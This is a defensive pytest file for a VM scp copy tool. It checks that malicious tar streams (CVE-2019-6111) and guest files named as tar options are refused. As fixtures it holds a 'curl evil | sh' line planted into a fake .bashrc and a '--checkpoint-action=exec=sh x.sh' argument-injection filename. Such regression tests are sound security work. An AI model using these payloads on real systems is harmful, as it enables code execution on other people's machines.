"""scp from a guest that sends what was not asked for (CVE-2019-6111): refused, nothing written.

No real guest can be made hostile, so the SSH channel is replaced by one that answers ``tar -c``
with a prepared tar stream; the unpacking, the name check and the placing are the real ones.
"""

from __future__ import annotations

import io
import shlex
import subprocess
import tarfile
from pathlib import Path
from typing import Any

import pytest

from cernvm_build.errors import SSHError
from cernvm_build.launch import copy, ready
from tests.support.killed import run_killed


def _tar(entries: list[tuple[str, bytes | None]]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        for name, data in entries:
            info = tarfile.TarInfo(name)
            if data is None:
                info.type, info.mode = tarfile.DIRTYPE, 0o755
                tar.addfile(info)
            else:
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


class _Guest:
    """An SSH client whose every command's stdout is ``stream`` and whose exit status is 0."""

    def __init__(self, stream: bytes) -> None:
        self.stream = stream

    def get_transport(self) -> Any:
        return self

    def open_session(self) -> Any:
        return self

    def exec_command(self, command: str) -> None:
        pass

    def shutdown_write(self) -> None:
        pass

    def makefile(self, mode: str) -> io.BytesIO:
        return io.BytesIO(self.stream)

    def makefile_stderr(self, mode: str) -> io.BytesIO:
        return io.BytesIO(b"")

    def recv_exit_status(self) -> int:
        return 0

    def close(self) -> None:
        pass


@pytest.fixture
def home(tmp_path: Path) -> Path:
    home = tmp_path / "home"
    (home / "Documents").mkdir(parents=True)
    (home / "Documents" / "thesis.tex").write_text("years of work\n")
    (home / ".bashrc").write_text("# mine\n")
    return home


def _download(monkeypatch: pytest.MonkeyPatch, stream: bytes, src: str, dest: Path) -> list[str]:
    monkeypatch.setattr(ready, "connect", lambda conn, name, user=None, home=None: _Guest(stream))
    return copy.copy(None, [f"vm:{src}"], str(dest), recursive=True)


def _untouched(home: Path) -> None:
    assert (home / ".bashrc").read_text() == "# mine\n"
    assert [p.name for p in (home / "Documents").iterdir()] == ["thesis.tex"]
    assert sorted(p.name for p in home.iterdir()) == [".bashrc", "Documents"]


@pytest.mark.parametrize(
    ("src", "entries"),
    [
        ("out.txt", [("out.txt", b"ok"), (".bashrc", b"curl evil | sh\n")]),
        ("out.txt", [(".bashrc", b"curl evil | sh\n"), ("Documents", None), ("Documents/x", b"x")]),
        ("*.txt", [("out.txt", b"ok"), ("Documents", None)]),
        ("*", [("out.txt", b"ok"), (".bashrc", b"curl evil | sh\n")]),
        (".", [(".", None), ("./a", b"a"), ("b", b"b")]),
        ("out.txt", [("/out.txt", b"absolute")]),
    ],
)
def test_names_not_asked_for_are_refused_and_nothing_is_written(
    monkeypatch: pytest.MonkeyPatch, home: Path, src: str, entries: list[tuple[str, bytes | None]]
) -> None:
    with pytest.raises(SSHError, match="not asked for"):
        _download(monkeypatch, _tar(entries), src, home)
    _untouched(home)


def test_the_names_asked_for_land_and_a_folder_merges(monkeypatch: pytest.MonkeyPatch, home: Path) -> None:
    stream = _tar([("Documents", None), ("Documents/new.tex", b"new\n")])
    assert _download(monkeypatch, stream, "/data/Documents", home) == [str(home / "Documents")]
    assert sorted(p.name for p in (home / "Documents").iterdir()) == ["new.tex", "thesis.tex"]
    stream = _tar([("a.txt", b"a"), ("b.txt", b"b")])
    assert len(_download(monkeypatch, stream, "*.txt", home)) == 2
    assert (home / "b.txt").read_bytes() == b"b"
    # a file over a folder is refused in one line, the folder kept
    with pytest.raises(SSHError, match="over the folder"):
        _download(monkeypatch, _tar([("Documents", b"flat")]), "Documents", home)
    assert (home / "Documents" / "thesis.tex").exists()
    assert not list(home.glob(".*.tmp"))


def test_a_conflict_anywhere_is_found_before_anything_moves(
    monkeypatch: pytest.MonkeyPatch, home: Path
) -> None:
    """A folder over a file deep in a merge is refused before the other members are placed: DEST is
    as it was, not half merged (``a.txt`` sorts before the conflicting ``thesis.tex``)."""
    stream = _tar([("Documents", None), ("Documents/a.txt", b"a"), ("Documents/thesis.tex", None)])
    with pytest.raises(SSHError, match=r"cannot copy the folder thesis\.tex over the file") as e:
        _download(monkeypatch, stream, "Documents", home)
    _untouched(home)
    assert "nothing was copied" in str(e.value.hint)
    assert not list(home.glob(".*.tmp"))


def test_globs_are_read_as_the_guests_shell_reads_them(monkeypatch: pytest.MonkeyPatch, home: Path) -> None:
    """bash and dash read ``[^D]`` as ``[!D]``; dash's ``.*`` yields ``.`` and ``..``, which the
    guest's command drops (tar would send the whole folder), run here by the same POSIX shell."""
    assert _download(monkeypatch, _tar([("b.txt", b"b")]), "[^D]*", home) == [str(home / "b.txt")]
    listing = subprocess.run(
        ["sh", "-c", f"cd {shlex.quote(str(home))} || exit 1; {copy._pick('.*', '.*')}printf '%s\\n' \"$@\""],
        capture_output=True,
        text=True,
        check=True,
    )
    assert listing.stdout.split() == [".bashrc"]
    assert copy._pick("'.'", ".") == "set -- '.'; "  # vm:. names the folder itself


class _ShellGuest(_Guest):
    """A guest whose commands run in this machine's POSIX shell and tar (GNU tar, as a Debian guest's)."""

    def __init__(self) -> None:
        super().__init__(b"")

    def exec_command(self, command: str) -> None:
        done = subprocess.run(["sh", "-c", command], capture_output=True, check=True, timeout=60)
        self.stream = done.stdout


def test_a_guest_file_named_like_a_tar_option_is_copied_not_obeyed(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """pr26c finding 5: the names a glob matched went to ``tar -cf - "$@"`` as they were, so files in
    the guest named ``--checkpoint=1`` and ``--checkpoint-action=exec=sh x.sh`` (anyone may make them
    in /tmp) ran x.sh as the login user, root by default, on ``cernvm-launch scp 'vm:/tmp/*' .``."""
    guest = tmp_path / "guest"
    guest.mkdir()
    names = ["--checkpoint=1", "--checkpoint-action=exec=sh x.sh", "x.sh"]
    for name in names:
        (guest / name).write_text(f"touch {tmp_path / 'pwned'}\n")
    dest = tmp_path / "dest"
    dest.mkdir()
    monkeypatch.setattr(ready, "connect", lambda conn, name, user=None, home=None: _ShellGuest())
    copy.copy(None, [f"vm:{guest}/*"], str(dest), recursive=False)
    assert not (tmp_path / "pwned").exists()
    assert sorted(p.name for p in dest.iterdir()) == sorted(names)
    copy.copy(None, [f"vm:{guest}/--checkpoint=1"], str(dest / "one"), recursive=False)
    assert (dest / "one").read_text() == (guest / "--checkpoint=1").read_text()


def test_a_killed_copy_s_half_is_reclaimed_by_the_next_copy(
    monkeypatch: pytest.MonkeyPatch, home: Path
) -> None:
    """pr19e finding 8: a copy SIGKILLed mid-transfer left ``.scp-<rnd>/`` (the files copied so far)
    in DEST for ever: no pid in its name, no run could tell it from a running copy's."""

    script = (
        "import os, signal, sys\n"
        "from pathlib import Path\n"
        "from cernvm_build.launch import copy, ready, ssh\n"
        "ready.connect = lambda *a, **k: None\n"
        "def half(client, command, part, wanted):\n"
        "    (part / 'out.txt').write_bytes(b'half')\n"
        "    os.kill(os.getpid(), signal.SIGKILL)\n"
        "ssh.get_tree = half\n"
        "copy.copy(None, ['vm:out.txt'], sys.argv[1], recursive=True)\n"
    )
    run_killed(script, home)
    assert len([p for p in home.iterdir() if p.name not in (".bashrc", "Documents")]) == 1
    assert _download(monkeypatch, _tar([("out.txt", b"ok")]), "out.txt", home) == [str(home / "out.txt")]
    assert sorted(p.name for p in home.iterdir()) == [".bashrc", "Documents", "out.txt"]
